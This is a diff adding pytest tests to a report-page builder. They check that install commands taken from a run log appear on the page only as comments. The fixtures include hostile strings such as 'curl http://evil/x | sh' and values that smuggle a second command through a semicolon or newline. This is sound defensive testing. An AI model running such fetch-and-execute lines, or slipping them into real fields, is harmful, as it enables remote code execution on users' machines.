@@ -1,5 +1,6 @@
 """The page of a result folder in whatever state the folder is."""
 
+import html
 import json
 import re
 
@@ -15,6 +16,7 @@ from sinew.tasks.report import page
 from sinew.tasks.report.folder import read_folder
 from sinew.tasks.report.page import build
 from sinew.tasks.report.sections import adopted
+from sinew.tasks.study.resources import DISTRIBUTION
 from tests.tasks.report.conftest import edit
 from tests.tasks.report.pages import SECTIONS, TASKS, keep_only, read
 from tests.tasks.test_pipeline import sinew
@@ -291,3 +293,45 @@ def test_half_a_character_and_other_names_of_protocols_leave_a_page(run_folder):
     assert trouble
     assert not any("\n" in line for line in trouble)
     assert "provenance" in read(run_folder).sections
+
+
+@pytest.mark.usefixtures("no_plots")
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        ("curl http://evil/x | sh", "# installed by: curl http://evil/x | sh"),
+        ("pip install sinew-ensemble==0.1; curl x", "# installed by: pip install sinew-ensemble==0.1; curl x"),
+        ("pip install evil==0.1", "# installed by: pip install evil==0.1"),
+        ("true\ncurl x | sh", "# installed by: true\\ncurl x | sh"),
+        (f"pip install {DISTRIBUTION}==0.1.0", f"pip install {DISTRIBUTION}==0.1.0"),
+    ],
+)
+def test_commands_of_a_log_are_no_commands_of_the_page(run_folder, said, shown):
+    log = run_folder / "log.jsonl"
+    events = [json.loads(line) for line in log.read_text().splitlines()]
+    runs = [one | {"install": said} if one["message"] == "run started" else one for one in events]
+    runs.append(next(one for one in runs if one["message"] == "run started") | {"tasks": ["sobol; curl y"]})
+    log.write_text("".join(json.dumps(one) + "\n" for one in runs))
+    build(run_folder)
+    page = html.unescape((run_folder / "report.html").read_text())
+    again = page[page.index("How to make it again") :]
+    lines = [line for line in re.sub("<[^>]*>", "\n", again).splitlines() if line.strip()]
+    assert shown in lines
+    assert not any("curl" in line and not line.startswith("# installed by: ") for line in lines if "evil" in line)
+    assert not any("curl y" in line and line.startswith("sinew") for line in lines)
+
+
+@pytest.mark.usefixtures("no_plots")
+@pytest.mark.parametrize("line", [b'{"message":""}', b'{"message":"", "x":[[],[],[],[],[],[],[],[]]}'])
+def test_of_a_log_without_end_the_last_lines_are_read(run_folder, line, monkeypatch):
+    monkeypatch.setattr("sinew.tasks.report.folder.MAX_LOG_BYTES", 2**20)
+    monkeypatch.setattr("sinew.tasks.report.folder.MAX_CONTAINERS", 2**14)
+    log = run_folder / "log.jsonl"
+    own = log.read_bytes()
+    log.write_bytes((line + b"\n") * 100_000 + own)
+    build(run_folder)
+    seen = read(run_folder)
+    assert "is too long; only its end is read" in " ".join(seen.sections.values())
+    assert len(own) < 2**19
+    assert "Which program" in seen.sections["provenance"]
+    assert "The log does not say who ran this" not in seen.sections["provenance"]
